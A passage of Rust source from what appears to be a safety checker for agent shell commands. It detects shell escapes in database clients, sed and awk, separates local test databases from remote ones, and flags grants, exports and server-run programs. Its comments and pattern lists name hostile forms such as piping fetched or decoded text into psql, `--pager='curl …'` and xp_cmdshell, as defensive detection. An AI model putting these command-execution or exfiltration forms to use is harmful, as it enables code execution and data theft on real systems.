//! Readers for the small languages some programs take as an argument or on stdin: sqlite's and
//! psql's meta-commands, mysql's client commands, sed scripts and awk programs, each only as far
//! as it takes to find where they run a command.

use super::super::schema::fact;
use super::super::shell::Word;
use super::Code;

fn rest_of_line(s: &str) -> &str {
    s.split('\n').next().unwrap_or(s).trim()
}

/// sqlite3's `.shell CMD` and `.system CMD`; `.once |CMD`, `.output |CMD`, `.import |CMD` and
/// `.load` run code too.
pub fn sqlite(w: &Word) -> Vec<Code> {
    let mut out = Vec::new();
    for line in w.text.split(['\n', ';']) {
        let line = line.trim_start();
        if let Some(rest) = line.strip_prefix(".shell").or_else(|| line.strip_prefix(".system")) {
            out.push(Code::Shell(Word { text: rest_of_line(rest).to_owned(), ..w.clone() }));
        } else if [".once", ".output", ".import", ".read", ".excel"].iter().any(|c| line.starts_with(c)) && line.contains('|') || line.starts_with(".load") {
            out.push(Code::Fact(fact::RUNS_CODE));
        }
    }
    if w.dynamic && w.text.contains('.') {
        out.push(Code::Fact(fact::RUNS_CODE));
    }
    out
}

/// dc's `!CMD` (not the comparisons `!<r`, `!>r`, `!=r`): the rest of the line runs in a shell.
pub fn dc(w: &Word) -> Vec<Code> {
    let mut out = Vec::new();
    for line in w.text.split('\n') {
        let mut rest = line;
        while let Some(at) = rest.find('!') {
            let after = &rest[at + 1..];
            if after.starts_with(['<', '>', '=']) {
                rest = &after[1..];
                continue;
            }
            out.push(Code::Shell(Word { text: after.trim().to_owned(), ..w.clone() }));
            break;
        }
    }
    if w.dynamic && w.text.contains(['!', '$', '`']) {
        out.push(Code::Fact(fact::RUNS_CODE));
    }
    out
}

/// psql's `\! CMD`, and `\o |CMD`, `\g |CMD`, `\copy … program`, `COPY … PROGRAM`.
pub fn psql(w: &Word) -> Vec<Code> {
    let mut out = Vec::new();
    let t = &w.text;
    let mut from = 0;
    while let Some(at) = t[from..].find("\\!") {
        let start = from + at + 2;
        out.push(Code::Shell(Word { text: rest_of_line(&t[start..]).to_owned(), ..w.clone() }));
        from = start;
    }
    let lower = t.to_ascii_lowercase();
    let piped = ["\\o", "\\g", "\\gx", "\\out"].iter().any(|m| lower.match_indices(m).any(|(i, _)| lower[i + m.len()..].trim_start().starts_with('|')));
    if piped || (lower.contains("copy") && lower.contains("program")) || lower.contains("\\setenv") {
        out.push(Code::Fact(fact::RUNS_CODE));
    }
    out
}

/// mysql's `\! CMD` and `system CMD`.
pub fn mysql(w: &Word) -> Vec<Code> {
    let mut out = Vec::new();
    for stmt in w.text.split(['\n', ';']) {
        let s = stmt.trim_start();
        let rest = s.strip_prefix("\\!").or_else(|| s.get(..7).filter(|p| p.eq_ignore_ascii_case("system ")).map(|_| &s[7..]));
        if let Some(rest) = rest {
            out.push(Code::Shell(Word { text: rest_of_line(rest).to_owned(), ..w.clone() }));
        } else if s.contains("\\!") {
            out.push(Code::Fact(fact::RUNS_CODE));
        }
    }
    out
}

/// Whether a sed script runs a command: the `e` command, or the `e` flag of `s///`. (GNU sed;
/// the `w` command and flag write files, which the file effects see elsewhere.)
pub fn sed_runs_command(script: &str) -> bool {
    let b = script.as_bytes();
    let mut i = 0;
    while i < b.len() {
        // Skip blanks, separators and an address (`1`, `$`, `/re/`, `\%re%`, `1,5`, `0~2`, `!`).
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b';' | b'{' | b'}' | b'!') {
            i += 1;
        }
        loop {
            if i >= b.len() {
                return false;
            }
            match b[i] {
                b'0'..=b'9' | b'$' | b',' | b'~' | b'+' | b' ' | b'!' => i += 1,
                b'/' => i = skip_delimited(b, i + 1, b'/'),
                b'\\' if i + 1 < b.len() => {
                    let d = b[i + 1];
                    i = skip_delimited(b, i + 2, d);
                }
                b'I' | b'M' if i > 0 && matches!(b[i - 1], b'/') => i += 1,
                _ => break,
            }
        }
        let c = b[i];
        i += 1;
        match c {
            b'e' => return true,
            b's' | b'y' => {
                let Some(&d) = b.get(i) else { return false };
                i = skip_delimited(b, i + 1, d);
                i = skip_delimited(b, i, d);
                if c == b's' {
                    // Flags up to the end of the command.
                    while i < b.len() && !matches!(b[i], b';' | b'\n' | b'}') {
                        match b[i] {
                            b'e' => return true,
                            // `w FILE` takes the rest of the line.
                            b'w' => {
                                while i < b.len() && b[i] != b'\n' {
                                    i += 1;
                                }
                            }
                            _ => i += 1,
                        }
                    }
                }
            }
            // Commands whose argument is the rest of the line.
            b'a' | b'i' | b'c' | b'r' | b'R' | b'w' | b'W' | b'b' | b't' | b'T' | b':' | b'q' | b'Q' | b'l' | b'L' | b'v' | b'#' => {
                while i < b.len() && b[i] != b'\n' && !(matches!(c, b'b' | b't' | b'T' | b'q' | b'Q' | b'l' | b'L') && b[i] == b';') {
                    i += 1;
                }
            }
            _ => {}
        }
    }
    false
}

/// The index after the closing `delim`, honouring backslash escapes.
fn skip_delimited(b: &[u8], mut i: usize, delim: u8) -> usize {
    while i < b.len() {
        if b[i] == b'\\' {
            i += 2;
            continue;
        }
        if b[i] == delim {
            return i + 1;
        }
        i += 1;
    }
    b.len()
}

/// Whether an awk program runs a command: `system(…)`, printing into a pipe (`print | "cmd"`),
/// reading from one (`"cmd" | getline`), or a coprocess (`|&`). Text in string literals, regular
/// expression literals and comments does not count, so `/a|b/` and `"system"` are harmless.
pub fn awk_runs_command(program: &str) -> bool {
    let b = program.as_bytes();
    let mut i = 0;
    // Whether an operand may start here: a `/` then opens a regular expression, not a division.
    let mut operand_expected = true;
    while i < b.len() {
        let c = b[i];
        match c {
            b'"' => {
                i = skip_delimited(b, i + 1, b'"');
                operand_expected = false;
                continue;
            }
            b'/' if operand_expected => {
                i = skip_regex(b, i + 1);
                operand_expected = false;
                continue;
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'|' => {
                if b.get(i + 1) == Some(&b'|') {
                    i += 2;
                    operand_expected = true;
                    continue;
                }
                return true;
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
                let word = &program[start..i];
                if word == "system" {
                    let mut j = i;
                    while j < b.len() && matches!(b[j], b' ' | b'\t') {
                        j += 1;
                    }
                    if b.get(j) == Some(&b'(') {
                        return true;
                    }
                }
                // After a keyword such as `print` or `return`, an operand may follow.
                operand_expected = matches!(word, "print" | "printf" | "return" | "in" | "case" | "if" | "while" | "do" | "else");
                continue;
            }
            b')' | b']' | b'0'..=b'9' | b'$' => operand_expected = false,
            b' ' | b'\t' => {}
            _ => operand_expected = true,
        }
        i += 1;
    }
    false
}

/// The index after a regular expression literal's closing `/` (a `/` inside brackets does not close it).
fn skip_regex(b: &[u8], mut i: usize) -> usize {
    let mut bracket = false;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 1,
            b'[' => bracket = true,
            b']' => bracket = false,
            b'/' if !bracket => return i + 1,
            b'\n' => return i,
            _ => {}
        }
        i += 1;
    }
    b.len()
}

/// Database clients whose statements [`changes_every_row`] reads.
const SQL_CLIENTS: &[&str] = &[
    "sql",
    "prisma",
    "mongosh",
    "mongo",
    "rails",
    "psql",
    "mysql",
    "mariadb",
    "clickhouse-client",
    "clickhouse",
    "cockroach",
    "sqlcmd",
    "snowsql",
    "bq",
    "usql",
    "pgcli",
    "mycli",
    "sqlite3",
    "sqlite",
    "duckdb",
    "litecli",
    "spatialite",
    "spark-sql",
    "beeline",
    "hive",
    "trino",
    "presto",
    "impala-shell",
    "dbsqlcli",
    "databricks",
    "athena",
    "sqlplus",
    "isql",
    "vsql",
    "cqlsh",
    "snow",
    "turso",
    "wrangler",
    "supabase",
    "pscale",
    "planetscale",
];

/// A statement that changes every row of a table (`UPDATE t SET …` with no `WHERE`), or a
/// Redis delete of keys another program lists (`… --scan | xargs redis-cli DEL`).
/// Whether a database command runs against this machine's test database only (see
/// [`local_test_database`]). A framework's test environment alone (`RAILS_ENV=test`) is not
/// enough: which server it reaches is decided by files and variables an agent can change
/// (`DATABASE_URL`, `.env`, `database.yml`, `--database=`).
pub fn runs_in_test_env(c: &crate::policy::shell::Cmd) -> bool {
    local_test_database(c) || local_spark(c)
}

/// Spark SQL on this machine's own master (`spark-sql --master 'local[*]'`) with no metastore or
/// warehouse named elsewhere: its tables are directories here.
fn local_spark(c: &crate::policy::shell::Cmd) -> bool {
    let args = c.args();
    matches!(c.program.as_str(), "spark-sql" | "pyspark" | "spark-shell")
        && args.windows(2).any(|p| p[0].text == "--master" && p[1].text.starts_with("local"))
        && !args.iter().any(|w| w.dynamic || ["metastore", "warehouse.dir", "hive.", "catalog", "://"].iter().any(|k| w.text.contains(k)))
}

/// Whether a database command names only this machine's server and a test database
/// (`sqlcmd -S localhost -Q "DROP DATABASE OrdersTest"`, `psql -h 127.0.0.1 -d app_test`,
/// `-Dflyway.url=jdbc:postgresql://localhost/app_test`): the tests' own, recreated at will.
pub fn local_test_database(c: &crate::policy::shell::Cmd) -> bool {
    let args = c.args();
    // Statements that reach another database from this one (`\c other`, `USE`, a sibling
    // database, dblink, ATTACH), or a computed word: not only the one named.
    let env_urls: Vec<&str> = c.env.iter().filter(|(_, v)| v.text.contains("://")).map(|(_, v)| v.text.as_str()).collect();
    if args.iter().any(|w| w.dynamic) || c.env.iter().any(|(n, v)| (v.dynamic || n.starts_with("PG") || n.contains("HOST")) && !v.text.contains("://")) {
        return false;
    }
    if args.iter().chain(c.env.iter().map(|(_, v)| v)).any(|w| {
        let l = w.text.to_ascii_lowercase();
        ["\\c ", "\\connect", "getsiblingdb", "dblink", "attach ", "use ", "service=", "--repo", "--url", "--database=", "--env"].iter().any(|k| l.contains(k))
    }) {
        return false;
    }
    // (Every host of a list: libpq tries `-h localhost,db.prod` in turn.)
    let local = |h: &str| {
        let h = h.trim_matches(['"', '\'', '[', ']']).to_ascii_lowercase();
        h.split(',').all(|one| {
            let host = one.split([':', '\\']).next().unwrap_or("");
            this_machine(host)
        })
    };
    let mut hosts: Vec<String> = Vec::new();
    let mut names: Vec<String> = Vec::new();
    for (k, w) in args.iter().enumerate() {
        let t = w.text.as_str();
        let next = || args.get(k + 1).map(|v| v.text.clone());
        match t {
            "-S" | "-h" | "--host" | "-H" | "--server" => hosts.extend(next()),
            "-d" | "--dbname" | "-D" | "--database" | "--db" => names.extend(next()),
            _ => {}
        }
        for p in ["--host=", "--server="] {
            hosts.extend(t.strip_prefix(p).map(str::to_owned));
        }
        for p in ["--dbname=", "--database="] {
            names.extend(t.strip_prefix(p).map(str::to_owned));
        }
        // The database a client takes as its operand (`psql -h localhost app_test`, `dropdb
        // app_test`, `mysql -h 127.0.0.1 app_test`).
        if !t.starts_with('-')
            && !t.contains("://")
            && k > 0
            && !args[k - 1].text.starts_with('-')
            && matches!(c.program.as_str(), "psql" | "dropdb" | "createdb" | "mysql" | "mariadb" | "pgcli" | "mycli")
        {
            names.push(t.to_owned());
        }
        if !t.starts_with('-') && k == 0 && matches!(c.program.as_str(), "dropdb" | "createdb" | "psql" | "mysql" | "mariadb") && !t.contains("://") && !t.contains(' ') {
            names.push(t.to_owned());
        }
        if t.contains("://") {
            address(t, &mut hosts, &mut names);
        } else if t.to_ascii_lowercase().contains("host=") || t.to_ascii_lowercase().contains("server=") {
            // A connection string (`host=db dbname=x`, `Host=localhost;Database=app_test`).
            for kv in t.split([';', ' ']) {
                let Some((k, v)) = kv.split_once('=') else { continue };
                match k.trim().to_ascii_lowercase().as_str() {
                    "host" | "hostaddr" | "server" | "data source" | "address" | "addr" => hosts.push(v.trim().to_owned()),
                    "dbname" | "database" | "initial catalog" => names.push(v.trim().to_owned()),
                    _ => {}
                }
            }
        }
        // The statements' own (`DROP DATABASE IF EXISTS OrdersTest`).
        let lower = t.to_ascii_lowercase();
        for (at, _) in lower.match_indices("database ") {
            // (As written: the case of the name tells its words apart.)
            let rest = t[at + 9..].trim_start();
            let rest = if rest.get(..10).is_some_and(|p| p.eq_ignore_ascii_case("if exists ")) { rest[10..].trim_start() } else { rest };
            names.extend(rest.split([';', ' ', '\n']).next().map(|n| n.trim_matches(['[', ']', '"', '`']).to_owned()));
        }
    }
    // (And the address the environment gives: `DATABASE_URL=postgres://localhost/app_test`.)
    for u in env_urls {
        address(u, &mut hosts, &mut names);
    }
    // A test database by a word of its name (`app_test`, `OrdersTest`, `test-db`; not
    // `contest_prod`).
    let test_name = |n: &str| {
        let words = name_words(n, false);
        // (Not one that says it is production's too: `app_test_prod_mirror`.)
        words.iter().any(|w| matches!(w.trim_end_matches(|c: char| c.is_ascii_digit()), "test" | "tests" | "testing" | "dev" | "development" | "local" | "scratch" | "sandbox"))
            && !words.iter().any(|w| matches!(w.as_str(), "prod" | "production" | "prd" | "live" | "mirror" | "replica" | "main" | "master" | "primary"))
    };
    // (A client in a container of this machine with no server named reaches the container's
    // own: `docker compose exec db psql -c 'DROP DATABASE app_test'`.)
    if hosts.is_empty() && c.wrappers.iter().any(|w| w == crate::policy::shell::CONTAINER_EXEC) {
        hosts.push("localhost".to_owned());
    }
    !hosts.is_empty() && hosts.iter().all(|h| local(h)) && !names.is_empty() && names.iter().all(|n| test_name(n))
}

/// The words of a name, lower-cased: split at any character that is no letter or digit, and
/// where an upper-case letter follows a lower-case one (`BatchDeleteUsers`, `app_test`), or a
/// digit when `after_digit` (`v2Delete`).
pub fn name_words(name: &str, after_digit: bool) -> Vec<String> {
    let mut words: Vec<String> = vec![String::new()];
    let mut prev_lower = false;
    for ch in name.chars() {
        if !ch.is_alphanumeric() {
            words.push(String::new());
            prev_lower = false;
            continue;
        }
        if ch.is_uppercase() && prev_lower {
            words.push(String::new());
        }
        prev_lower = ch.is_lowercase() || (after_digit && ch.is_ascii_digit());
        words.last_mut().expect("one word at least").push(ch.to_ascii_lowercase());
    }
    words.retain(|w| !w.is_empty());
    words
}

/// The server and database of an address (`jdbc:sqlserver://localhost:1433;databaseName=X`,
/// `postgres://u@localhost/x?sslmode=disable`).
fn address(t: &str, hosts: &mut Vec<String>, names: &mut Vec<String>) {
    let Some(at) = t.find("://") else { return };
    let rest = &t[at + 3..];
    let authority = rest.split(['/', ';', '?']).next().unwrap_or("");
    hosts.push(authority.rsplit('@').next().unwrap_or("").to_owned());
    // (A host or database in the query wins: `postgresql://localhost/app_test?host=db.prod`.)
    for kv in rest.split_once('?').map_or("", |(_, q)| q).split('&') {
        match kv.split_once('=') {
            Some(("host" | "hostaddr", v)) => hosts.push(v.to_owned()),
            Some(("dbname", v)) => names.push(v.to_owned()),
            _ => {}
        }
    }
    if let Some(db) = rest.split(['?', ';']).next().and_then(|r| r.split_once('/')).map(|(_, d)| d) {
        names.push(db.to_owned());
    }
    names.extend(rest.split(';').filter_map(|kv| kv.strip_prefix("databaseName=").or_else(|| kv.strip_prefix("database="))).map(str::to_owned));
}

/// Whether database client `c` reads its statements from a program whose output ana cannot
/// read: decoded, generated or fetched on the way (`echo … | base64 -d | psql`, `python3 gen.py
/// | psql`, `curl … | mysql`). Text ana reads (`echo 'select 1' | psql`, a file) is judged as
/// it is; a dump or an archive restored (`pg_dump … | psql`, `zcat x.sql.gz | psql`) is data.
pub fn reads_unread_input(c: &crate::policy::shell::Cmd) -> bool {
    // A database's own dump, or one uncompressed on its way (`zcat x.sql.gz`), is data restored.
    const DUMPS: &[&str] = &["pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "zcat", "gunzip", "gzip", "xzcat", "xz", "zstdcat", "zstd", "bzcat", "bzip2", "lz4cat", "pv"];
    !embedded(&c.program) && SQL_CLIENTS.contains(&c.program.as_str()) && c.stdin_text.is_none() && c.stdin_from.as_deref().is_some_and(|p| !DUMPS.contains(&p))
}

/// Whether a database server's host name (lower case) is this machine's.
fn this_machine(host: &str) -> bool {
    matches!(host, "localhost" | "127.0.0.1" | "::1" | "(local)" | "." | "0.0.0.0" | "host.docker.internal") || host.ends_with(".localhost")
}

/// Whether a database, stream or cache client names a server other than this machine
/// (`psql -h 203.0.113.5`, `mysql --host=db.example`, `kcat -b broker.example:9092`,
/// `redis-cli -h x`, `postgres://u@db.example/x`).
pub fn names_another_host(c: &crate::policy::shell::Cmd) -> bool {
    let args = c.args();
    let mut hosts: Vec<String> = Vec::new();
    let mut names = Vec::new();
    for (k, w) in args.iter().enumerate() {
        let t = w.text.as_str();
        if matches!(t, "-h" | "--host" | "-H" | "-S" | "--server" | "-b" | "--brokers" | "--bootstrap-server" | "--broker-list") {
            hosts.extend(args.get(k + 1).map(|v| v.text.clone()));
        }
        for p in ["--host=", "--server=", "--bootstrap-server=", "--brokers="] {
            hosts.extend(t.strip_prefix(p).map(str::to_owned));
        }
        // kcat's `-bHOST`, glued.
        if t.len() > 2 && t.starts_with("-b") && !t.starts_with("--") && c.program.starts_with("kcat") {
            hosts.push(t[2..].to_owned());
        }
        if t.contains("://") {
            address(t, &mut hosts, &mut names);
        }
    }
    hosts.iter().any(|h| {
        h.split(',').any(|one| {
            let host = one.trim_matches(['"', '\'', '[', ']']).to_ascii_lowercase();
            let host = host.rsplit('@').next().unwrap_or("").split([':', '\\', '/']).next().unwrap_or("").to_owned();
            !host.is_empty() && !this_machine(&host)
        })
    })
}

/// Whether a dbt command rebuilds or runs SQL against a target that is not a development one:
/// `run`, `build`, `seed` or `clone` with a full refresh (`--full-refresh`, `-f`,
/// `DBT_FULL_REFRESH=true`), or `run-operation`, where the target (`--target`, `-t`,
/// `DBT_TARGET`) is not named like a development one (`dev`, `local`, `test`, `ci`, `sandbox`),
/// or is whatever default a profiles file given elsewhere holds (`--profiles-dir`,
/// `DBT_PROFILES_DIR`).
pub fn dbt_elsewhere(c: &crate::policy::shell::Cmd) -> bool {
    if !matches!(c.program.as_str(), "dbt" | "dbt.cli.main") {
        return false;
    }
    let args = c.args();
    let assigned = |name: &str| c.env.iter().find(|(n, _)| n == name).map(|(_, v)| v);
    let Some(sub) = args.iter().find(|w| !w.text.starts_with('-')).map(|w| w.text.as_str()) else { return false };
    let truthy = |v: &crate::policy::shell::Word| v.dynamic || matches!(v.text.to_ascii_lowercase().as_str(), "1" | "true" | "yes" | "y" | "on");
    let full_refresh = args.iter().any(|w| matches!(w.text.as_str(), "--full-refresh" | "-f")) || assigned("DBT_FULL_REFRESH").is_some_and(truthy);
    let changes = match sub {
        "run" | "build" | "seed" | "clone" | "snapshot" => full_refresh,
        "run-operation" => true,
        _ => false,
    };
    if !changes {
        return false;
    }
    let target = args
        .iter()
        .enumerate()
        .find_map(|(k, w)| match w.text.as_str() {
            "--target" | "-t" => args.get(k + 1).map(|v| (v.text.clone(), v.dynamic)),
            t => t.strip_prefix("--target=").map(|v| (v.to_owned(), w.dynamic)),
        })
        .or_else(|| assigned("DBT_TARGET").map(|v| (v.text.clone(), v.dynamic)));
    let development = |t: &str| {
        let t = t.to_ascii_lowercase();
        name_words(&t, false).iter().any(|w| matches!(w.as_str(), "dev" | "development" | "local" | "test" | "testing" | "ci" | "sandbox" | "scratch"))
    };
    match target {
        Some((t, dynamic)) => dynamic || !development(&t),
        None => args.iter().any(|w| w.text == "--profiles-dir" || w.text.starts_with("--profiles-dir=")) || assigned("DBT_PROFILES_DIR").is_some(),
    }
}

/// Whether `p` is an embedded database's client: its database is a file of this machine.
fn embedded(p: &str) -> bool {
    matches!(p, "sqlite3" | "sqlite" | "duckdb" | "litecli" | "spatialite")
}

/// Whether `p` is a database client whose statements this module reads.
pub fn is_sql_client(p: &str) -> bool {
    SQL_CLIENTS.contains(&p)
}

/// SQL text with the patterns that `LIKE`, `ILIKE`, `RLIKE`, `REGEXP` and `SIMILAR TO` compare
/// against emptied (`… WHERE query ILIKE '%drop table%'`): text a statement looks for, never
/// text it runs.
pub fn without_like_patterns(text: &str) -> std::borrow::Cow<'_, str> {
    let lower = text.to_ascii_lowercase();
    if !["like", "regexp", "similar"].iter().any(|k| lower.contains(k)) {
        return std::borrow::Cow::Borrowed(text);
    }
    let b = text.as_bytes();
    let lb = lower.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    let mut copied = 0;
    while i < b.len() {
        let before_ok = i == 0 || !(lb[i - 1].is_ascii_alphanumeric() || lb[i - 1] == b'_');
        let word = ["ilike", "rlike", "like", "regexp", "similar to"].iter().find(|k| before_ok && lb[i..].starts_with(k.as_bytes()));
        if let Some(k) = word {
            let mut j = i + k.len();
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if j < b.len() && matches!(b[j], b'\'' | b'"') {
                i = emptied_literal(text, j, &mut out, &mut copied);
                continue;
            }
            i += k.len();
            continue;
        }
        i += 1;
    }
    out.push_str(&text[copied..]);
    std::borrow::Cow::Owned(out)
}

/// Copies `text` up to and with the quote at `at` into `out`, and leaves out what follows to the
/// next same quote (or the end): the literal's text. `copied` is where copying resumes; the
/// return value, where reading does.
fn emptied_literal(text: &str, at: usize, out: &mut String, copied: &mut usize) -> usize {
    let b = text.as_bytes();
    let q = b[at];
    let mut e = at + 1;
    while e < b.len() && b[e] != q {
        e += 1;
    }
    out.push_str(&text[*copied..=at]);
    *copied = e.min(b.len());
    e + 1
}

/// A database client's argument as the `contains` rules read it: as the server runs it (see
/// [`sql_as_run`]), with the text of its string literals left out — text a statement compares or
/// stores (`WHERE action = 'DROP TABLE'`) — unless the statements build and run SQL from text
/// (`EXECUTE`, `PREPARE`, `\gexec`, a `DO` block, `sp_executesql`, `eval`), where a literal may
/// be a statement. The patterns `LIKE` and its kin compare against are left out either way.
pub fn sql_contains_text(text: &str) -> String {
    let run = sql_as_run(text);
    let lower = run.to_ascii_lowercase();
    const RUNS_TEXT: &[&str] = &[
        "exec",
        "prepare",
        "immediate",
        "gexec",
        "do ",
        "$$",
        "call ",
        "eval",
        "runcommand",
        "dblink",
        "query_to_",
        "format(",
        "concat",
        "||",
        "+",
        "xp_",
        "sp_",
        "dbms_sql",
        "run_query",
        "statement(",
    ];
    if RUNS_TEXT.iter().any(|k| lower.contains(k)) {
        return without_like_patterns(&run).into_owned();
    }
    let b = run.as_bytes();
    let mut out = String::with_capacity(run.len());
    let mut i = 0;
    let mut copied = 0;
    while i < b.len() {
        if matches!(b[i], b'\'' | b'"' | b'`') {
            i = emptied_literal(&run, i, &mut out, &mut copied);
            continue;
        }
        i += 1;
    }
    out.push_str(&run[copied.min(run.len())..]);
    out
}

/// What a database command's statements do beyond reading and changing rows, as [`fact`] bits:
/// privileges and accounts changed (`GRANT … TO PUBLIC`, `GRANT ROLE ACCOUNTADMIN`, `ALTER
/// ACCOUNT UNSET NETWORK_POLICY`, a share), data written out of the database (`COPY INTO
/// 's3://…'`, `EXPORT DATA`, `UNLOAD`, `INTO OUTFILE`, `INSERT INTO FUNCTION s3(…)`, a client
/// file loaded), a program run by the server (`COPY … TO PROGRAM`, `xp_cmdshell`), and objects
/// dropped or their history removed (`DROP STAGE`, `VACUUM … RETAIN 0 HOURS`).
///
/// [`fact`]: crate::policy::schema::fact
pub fn sql_facts(c: &crate::policy::shell::Cmd) -> u64 {
    if matches!(c.program.as_str(), "redis-cli" | "valkey-cli" | "keydb-cli") {
        let line = c.args().iter().map(|w| w.text.to_ascii_lowercase()).collect::<Vec<_>>().join(" ");
        return sql_statement_facts(&line) & crate::policy::schema::fact::GRANTS_ACCESS;
    }
    if !SQL_CLIENTS.contains(&c.program.as_str()) {
        return 0;
    }
    const WORDS: &[&str] = &[
        "grant",
        "revoke",
        "deny",
        "alter",
        "create",
        "copy",
        "export",
        "remove",
        "rm ",
        "acl",
        "user",
        "requirepass",
        "protected-mode",
        "unload",
        "outfile",
        "dumpfile",
        "infile",
        "program",
        "cmdshell",
        "drop",
        "vacuum",
        "insert",
        "sp_",
        "load",
        "lo_",
        "owner",
        "share",
        "password",
        "truncate",
        "purge",
        "set",
        "reassign",
        "rename",
        "aws_s3",
        "location",
        "openrowset",
        "opendatasource",
        "engine",
        "executable",
        "dbms_",
        "_command",
        "preload",
        "pg_read",
        "pg_ls",
        "function",
        "expire_snapshots",
        "remove_orphan",
        "retention",
        "replace",
        "sys_",
        "transform",
        "using",
        "jar",
        "swap",
        "get @",
        "prepare",
        "immediate",
        "exec",
    ];
    // Each argument on its own (`psql -h HOST -c STATEMENT`), and the text on stdin.
    let mut facts = 0;
    // (A statement glued to its option, `--execute=GRANT …`, is one too.)
    fn statement(t: &str) -> Option<&str> {
        match t.strip_prefix("--") {
            Some(long) => long.split_once('=').map(|(_, v)| v),
            None if t.starts_with('-') => None,
            None => Some(t),
        }
    }
    for part in c.args().iter().filter_map(|w| statement(&w.text)).chain(c.stdin_text.as_deref()) {
        let lower = sql_as_run(&part.to_ascii_lowercase());
        if WORDS.iter().any(|w| lower.contains(w)) {
            facts |= sql_statement_facts(&lower);
        }
    }
    // An embedded database's file: its drops are judged by where the file is, and a copy to a
    // file of this machine is a file it writes (one to storage an address names is an export).
    let embedded = embedded(&c.program);
    if embedded && !c.args().iter().any(|w| w.text.to_ascii_lowercase().contains("attach")) {
        facts &= !crate::policy::schema::fact::DROPS_OBJECTS;
    }
    let to_address = c.args().iter().map(|w| w.text.to_ascii_lowercase()).chain(c.stdin_text.iter().map(|s| s.to_ascii_lowercase())).any(|t| {
        let t: String = t.split_whitespace().collect::<Vec<_>>().join(" ");
        t.contains("to '") && t.split("to '").skip(1).any(|r| r.contains("://") && r.find("://") < r.find('\''))
    });
    if embedded && !to_address {
        facts &= !crate::policy::schema::fact::EXPORTS_DATA;
    }
    // Statements ana cannot read: a computed statement (`-c "$Q"`), client variables put into
    // it (`-v v=DROP -c ':v TABLE t'`, snowsql `-D`), a script fetched (`-f s3://…`, snowsql
    // `!source https://…`), or statements made from a query's rows (`\gexec`).
    let unread = |w: &crate::policy::shell::Word| {
        let t = w.text.to_ascii_lowercase();
        t.contains("\\gexec")
            || t.contains("!source")
            || t.contains("!load")
            || ["s3://", "s3a://", "gs://", "hdfs://", "abfss://", "https://", "http://", "dbfs:/"]
                .iter()
                .any(|s| t.starts_with(s) && (t.ends_with(".sql") || t.ends_with(".hql") || t.ends_with(".py")))
    };
    let variables = c
        .args()
        .iter()
        .any(|w| matches!(w.text.as_str(), "-v" | "--set" | "--variable" | "-D" | "--define" | "--hivevar" | "--hiveconf") || w.text.starts_with("--set=") || w.text.starts_with("--variable="));
    // (A statement computed when it runs: `-c "$Q"`, `bq query "$(cat q)"`; an address in a
    // variable, `psql "$DATABASE_URL"`, is not one.)
    let computed = crate::policy::programs::option_values(&c.argv, &["-c", "--command", "-e", "--execute", "-q", "--query", "-Q", "--sql"], &[]).iter().any(|w| w.dynamic)
        || (c.program == "bq" && c.args().iter().skip_while(|w| w.text != "query").skip(1).any(|w| w.dynamic && !w.text.starts_with('-')));
    if computed || c.args().iter().any(unread) || (variables && c.args().iter().any(|w| w.text.contains(':') || w.text.contains('&') || w.text.contains("${"))) {
        facts |= crate::policy::schema::fact::UNREAD_INPUT;
    }
    // Commands the client itself runs (`mysql --pager='curl …'`, snowsql `!system …`, psql
    // `\! …`, `\o |…`): a program started on this machine.
    if c.args().iter().chain(c.stdin_text.iter().map(|_| &c.argv[0])).any(|w| {
        let t = w.text.to_ascii_lowercase();
        t.starts_with("--pager=") || t.starts_with("pager ") || t.contains("!system") || t.contains("\\! ") || t.contains("\\o |") || t.contains("\\o|") || t.contains("\\setenv pager")
    }) || c.stdin_text.as_deref().is_some_and(|s| {
        let t = s.to_ascii_lowercase();
        t.contains("!system") || t.contains("\\! ") || t.contains("\\o |") || t.contains("\\o|") || t.lines().any(|l| l.trim_start().starts_with("pager ") || l.trim_start().starts_with("system "))
    }) {
        facts |= crate::policy::schema::fact::SERVER_PROGRAM;
    }
    facts
}

/// [`sql_facts`] of SQL text already in lower case.
pub fn sql_statement_facts(raw: &str) -> u64 {
    use crate::policy::schema::fact;
    let mut facts = 0;
    // Statements that run text (`EXECUTE IMMEDIATE 'GRANT …'`, a `$$` block, `PREPARE s FROM
    // '…'`): what the text says, read as statements too; text built when it runs (`PREPARE s
    // FROM @q`, `EXECUTE IMMEDIATE CONCAT(…)`, `sp_executesql @sql`, `EXEC(@q)`) cannot be read.
    let squeezed_all: String = raw.split_whitespace().collect::<Vec<_>>().join(" ");
    if ["execute immediate", "prepare ", "sp_executesql", "exec(", "exec (", "execute(", "execute (", "$$", "execute '", "execute format("].iter().any(|k| squeezed_all.contains(k)) {
        let unquoted: String = raw.chars().map(|c| if matches!(c, '\'' | '"' | '$' | '`') { ';' } else { c }).collect();
        if unquoted != raw {
            facts |= sql_statement_facts(&unquoted);
        }
        let built = [
            "from @",
            "immediate concat",
            "immediate format",
            "immediate (",
            "immediate @",
            "immediate v_",
            "sp_executesql @",
            "exec(@",
            "exec (@",
            "execute(@",
            "execute (@",
            "execute @",
            "execute format(",
            "execute v_",
            "execute q",
            "execute sql",
            "execute stmt",
        ];
        if built.iter().any(|k| squeezed_all.contains(k)) {
            facts |= fact::UNREAD_INPUT;
        }
    }
    // Spark and Hive's `TRANSFORM(…) USING 'cmd'` runs a command on each executor; `CREATE
    // FUNCTION … USING JAR 'https://…'` loads code from another machine.
    if (squeezed_all.contains("transform") && squeezed_all.contains(" using '"))
        || squeezed_all.contains("using jar")
        || squeezed_all.contains("using file 'http")
        || squeezed_all.contains("add jar http")
    {
        facts |= fact::SERVER_PROGRAM;
    }
    // Snowflake's `ALTER TABLE a SWAP WITH b`: a's rows replaced by b's; `GET @stage file://…`
    // brings staged exports to this machine.
    if squeezed_all.contains("swap with") {
        facts |= fact::DROPS_OBJECTS;
    }
    if squeezed_all.trim_start().starts_with("get @") || squeezed_all.contains("; get @") {
        facts |= fact::EXPORTS_DATA;
    }
    // Data sent to storage named by an address: DuckDB's and Postgres's `COPY … TO 's3://…'`,
